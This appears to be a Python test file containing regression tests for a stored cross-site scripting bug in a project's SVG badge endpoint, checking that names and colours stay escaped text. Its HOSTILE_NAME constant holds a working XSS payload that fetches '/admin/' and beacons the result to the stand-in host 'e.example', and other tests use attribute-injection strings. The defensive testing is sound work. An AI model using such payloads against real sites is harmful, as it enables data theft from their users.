"""Badges are images made of the ledger's text: whatever a name holds, it stays text.

Regression tests for the stored cross-site scripting found through the organisation badge:
its SVG was built with an f-string and saxutils.escape, which leaves `"` alone, so a name
could add attributes (an `onload`) to the root of a public image/svg+xml answer.
"""

from __future__ import annotations

from xml.etree import ElementTree

import pytest

from claims.exports import BADGE_MAX_CHARACTERS, badge_svg
from tests.factories import ClaimFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

SVG = "{http://www.w3.org/2000/svg}"
HOSTILE_NAME = (
    "x\" onload=\"fetch('/admin/').then(r=>r.text()).then(t=>navigator.sendBeacon('//e.example',t))"
    '" y="<script>alert(1)</script> &amp; '
)


def parse(svg: bytes | str) -> ElementTree.Element:
    """The badge as XML: raises if it is not well-formed."""
    return ElementTree.fromstring(svg)  # noqa: S314 (our own output, under test)


def attributes(root: ElementTree.Element) -> dict[str, str]:
    return {name: value for element in root.iter() for name, value in element.attrib.items()}


def test_an_organisation_name_with_quotes_stays_text_in_its_badge(anonymous, now):
    OrganisationFactory(name=HOSTILE_NAME, slug="hostile")

    response = anonymous.get("/api/v1/organisations/hostile/badge.svg")

    assert response.status_code == 200
    assert response["Content-Type"] == "image/svg+xml; charset=utf-8"
    root = parse(response.content)
    assert root.tag == f"{SVG}svg"
    assert not [name for name in attributes(root) if name.lower().startswith("on")]
    assert set(root.attrib) == {"width", "height", "role", "aria-label"}
    assert [element.tag for element in root.iter() if "script" in element.tag.lower()] == []
    # The name is shown as the characters it is (whitespace squeezed, cut to the badge's length).
    shown = " ".join(HOSTILE_NAME.split())[: BADGE_MAX_CHARACTERS - 1] + "…"
    label = next(root.iter(f"{SVG}text")).text
    assert label == shown
    assert root.get("aria-label").startswith(shown + ": ")


def test_every_text_of_a_badge_is_escaped_in_attributes_and_elements():
    svg = badge_svg(label="a\"b<c>&'d", value="</text><script>x</script>", colour="#123456")

    root = parse(svg)
    texts = [element.text for element in root.iter(f"{SVG}text")]
    assert texts == ["a\"b<c>&'d", "</text><script>x</script>"]
    assert root.get("aria-label") == "a\"b<c>&'d: </text><script>x</script>"
    assert "<script>" not in svg


def test_a_badge_colour_that_is_not_a_colour_is_not_written():
    svg = badge_svg(label="a", value="b", colour='red" onclick="x')

    assert "onclick" not in svg
    assert parse(svg).findall(f"{SVG}g/{SVG}rect")[1].get("fill") == "#6c757d"


def test_badge_widths_follow_the_text_shown():
    short = parse(badge_svg(label="promise", value="missed", colour="#b42318"))
    longer = parse(badge_svg(label="promise", value="fulfilled on time", colour="#1a7f37"))
    # An escaped character is one character on screen: "&" is as wide as "a".
    ampersand = parse(badge_svg(label="a & b", value="x", colour="#1a7f37"))
    letters = parse(badge_svg(label="a a b", value="x", colour="#1a7f37"))

    assert int(longer.get("width")) > int(short.get("width"))
    assert ampersand.get("width") == letters.get("width")


def test_a_badge_stays_well_formed_with_control_characters_in_the_name(anonymous, now):
    organisation = OrganisationFactory(slug="controls")
    # Stored as it may be in rows older than the validators.
    type(organisation).objects.filter(pk=organisation.pk).update(name="Bleu\x01\x08\x1b\x0c cloud")

    response = anonymous.get("/api/v1/organisations/controls/badge.svg")

    assert response.status_code == 200
    assert next(parse(response.content).iter(f"{SVG}text")).text == "Bleu cloud kept on time"


@pytest.mark.parametrize(
    ("url", "label"),
    [
        ("/api/v1/claims/999999/badge.svg", "promise"),
        ("/api/v1/organisations/nobody/badge.svg", "organisation"),
    ],
)
def test_a_badge_of_something_unknown_is_an_unknown_badge_with_status_404(anonymous, url, label):
    response = anonymous.get(url)

    assert response.status_code == 404
    assert response["Content-Type"] == "image/svg+xml; charset=utf-8"
    assert [element.text for element in parse(response.content).iter(f"{SVG}text")] == [
        label,
        "unknown",
    ]


def test_a_known_claims_badge_still_shows_its_status(anonymous, now):
    claim = ClaimFactory(deadline_text="in 2024")  # missed by 2026-11-28

    response = anonymous.get(f"/api/v1/claims/{claim.pk}/badge.svg")

    assert response.status_code == 200
    assert [element.text for element in parse(response.content).iter(f"{SVG}text")] == [
        "promise",
        "missed · 697 d late",  # days past the end of 2024, at 2026-11-28
    ]
